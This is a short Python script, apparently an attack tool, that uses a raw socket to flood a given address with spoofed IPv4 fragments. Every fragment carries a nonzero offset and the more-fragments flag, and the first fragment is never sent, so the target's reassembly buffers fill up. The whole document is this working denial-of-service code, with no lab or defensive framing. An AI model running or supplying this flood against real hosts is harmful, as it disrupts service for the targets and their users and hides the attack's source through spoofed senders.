"""Floods an address with later fragments whose first never comes, from spoofed senders, for SECONDS.

fragment_flood.py ADDRESS SECONDS: prints how many were sent. Needs root (a raw socket).
"""

import random
import socket
import struct
import sys
import time

IP_HDRINCL_PROTOCOL = socket.IPPROTO_RAW
UDP = 17


def fragment(target, sender, ident):
    """An IPv4 header with an offset of 1480 bytes and `more fragments`, and 64 bytes of payload."""
    head = struct.pack("!BBHHHBBH", 0x45, 0, 84, ident, 0x2000 | 185, 64, UDP, 0)
    return head + sender + socket.inet_aton(target) + b"f" * 64


def main():
    target, seconds = sys.argv[1], float(sys.argv[2])
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, IP_HDRINCL_PROTOCOL)
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for _ in range(100):
            sender = bytes([198, 18, random.randrange(256), random.randrange(1, 255)])
            sock.sendto(fragment(target, sender, random.randrange(65536)), (target, 0))
            sent += 1
    print(sent)


main()
